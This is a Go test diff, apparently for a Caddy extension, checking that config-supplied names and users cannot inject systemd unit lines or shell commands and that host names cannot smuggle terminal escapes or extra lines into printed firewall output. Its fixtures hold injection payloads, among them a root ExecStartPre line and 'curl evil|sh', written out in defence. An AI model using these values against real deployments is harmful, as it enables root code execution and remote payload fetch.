@@ -143,3 +143,72 @@ func TestUnitStopTimeout(t *testing.T) {
 		})
 	}
 }
+
+// TestDeploymentRefusesWhatItCannotPrint: names and accounts from the
+// config go into the unit and into the shell lines printed with it as they
+// are. A config may be the work of an account other than the operator's
+// (an app's, for a config kept in its project): a name that starts a line
+// of the unit's (ExecStartPre=+, run as root outside the sandbox) or an
+// account that ends a command is refused, saying what to write.
+func TestDeploymentRefusesWhatItCannotPrint(t *testing.T) {
+	wsgi := func(fields string) string {
+		return `{"apps": {"http": {"servers": {"s": {"listen": [":8080"], "routes": [
+			{"handle": [{"handler": "wsgi", "app": "shop.wsgi:application", "dir": "/srv/shop"` + fields + `}]}]}}}}}`
+	}
+	for _, tc := range []struct{ name, json, want string }{
+		{"a name with a unit line", wsgi(`, "name": "x\n[Service]\nExecStartPre=+/bin/sh -c 'id>/tmp/p'\n#"`), "app name"},
+		{"a name from the module", strings.Replace(wsgi(""), "shop.wsgi:application", `sh\nExecStartPre=+/bin/id\n#op.wsgi:application`, 1),
+			"give the app one with `name <name>`"},
+		{"a process upstream's program", `{"apps": {"http": {"servers": {"s": {"listen": [":8080"], "routes": [
+			{"handle": [{"handler": "reverse_proxy", "dynamic_upstreams": {"source": "process", "command": ["/opt/x\n[Install]"], "dir": "/srv/node"}}]}]}}}}}`,
+			"give the app one with `name <name>`"},
+		{"an app's user", wsgi(`, "name": "shop", "user": "www;curl evil|sh;#"`), `app shop: user "www;curl evil|sh;#"`},
+		{"a service's user", `{"apps": {"hearth": {"services": [{"name": "redis", "command": ["redis-server"], "dir": "/srv/redis", "user": "r\nx"}]}}}`,
+			`service "redis": user "r\nx"`},
+		{"a job's user", `{"apps": {"hearth": {"jobs": [{"name": "clean", "command": ["true"], "schedule": "@daily", "user": "-o"}]}}}`,
+			`job "clean": user "-o"`},
+	} {
+		t.Run(tc.name, func(t *testing.T) {
+			config := filepath.Join(t.TempDir(), "caddy.json")
+			if err := os.WriteFile(config, []byte(tc.json), 0o600); err != nil {
+				t.Fatal(err)
+			}
+			d, err := loadDeployment(config, "")
+			if err == nil {
+				var out strings.Builder
+				_ = writeUnit(&out, d, unitOptions{config: config, user: "caddy", appsUser: "hearth-apps", dataDir: "/var/lib/caddy", binary: "/usr/bin/caddy", envFile: "/etc/caddy/env"})
+				t.Fatalf("accepted; the unit:\n%s", out.String())
+			}
+			if !strings.Contains(err.Error(), tc.want) {
+				t.Errorf("error %q does not say %q", err, tc.want)
+			}
+		})
+	}
+}
+
+// TestPortsPrintsHostsOnTheirLine: a site's host name comes from the
+// config; in the output of `caddy hearth ports` (read, and pasted from,
+// maybe as root) it can neither send an escape sequence to the terminal
+// nor start a line that passes for a command.
+func TestPortsPrintsHostsOnTheirLine(t *testing.T) {
+	host := "a.example\n  sudo ufw allow 22/tcp\x1b]0;pwned\x07"
+	d := &deployment{
+		ports: []sitePort{{port: 8443, https: true, siteName: []string{host}}, {host: "127.0.0.1\n  sudo rm", port: 9000}},
+		certs: []siteChallenge{{host: host, port: 8443, how: "TLS-ALPN-01\x1b[2J"}},
+	}
+	var out strings.Builder
+	if err := printPorts(&out, d, "192.168.1.5", nil); err != nil {
+		t.Fatal(err)
+	}
+	if strings.ContainsAny(out.String(), "\x1b\x07") {
+		t.Errorf("an escape sequence reached the output:\n%q", out.String())
+	}
+	for _, line := range strings.Split(out.String(), "\n") {
+		if strings.HasPrefix(line, "  sudo ufw allow 22") || strings.HasPrefix(line, "  sudo rm") {
+			t.Errorf("a host name made a line of its own: %q in\n%s", line, out.String())
+		}
+	}
+	if !strings.Contains(out.String(), "sudo ufw allow 8443/tcp") {
+		t.Errorf("the port's own rule is missing:\n%s", out.String())
+	}
+}
